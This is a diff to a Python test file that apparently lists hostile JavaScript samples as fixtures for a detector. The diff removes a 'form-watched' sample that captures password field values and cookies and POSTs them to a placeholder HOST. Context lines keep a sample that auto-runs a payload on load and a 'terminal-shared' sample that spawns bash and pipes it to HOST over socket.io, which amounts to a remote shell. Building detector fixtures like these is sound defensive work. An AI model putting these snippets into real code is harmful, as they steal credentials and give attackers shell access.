@@ -141,12 +141,6 @@ CASES: tuple[Case, ...] = (
         "const later = f => setTimeout(f, 10);\nfunction start() {\n  " + JS_PAYLOAD + "\n}\nsetImmediate(start.bind(null));\nmodule.exports = later;\n",
     ),
     _main(
-        "form-watched",
-        "(function (d) {\n  function tell(o) { const q = new XMLHttpRequest(); q.open('POST', '" + HOST + "/i'); q.send(JSON.stringify(o)); }\n"
-        "  d.addEventListener('input', e => { if (e.target.type === 'password') tell({k: e.target.name, v: e.target.value, c: d.cookie}); });\n"
-        "})(document);\nmodule.exports = {};\n",
-    ),
-    _main(
         "terminal-shared",
         "const pty = require('node-pty'), io = require('socket.io-client');\n"
         f"const line = io('{HOST}');\nconst t = pty.spawn('bash', [], {{}});\n"
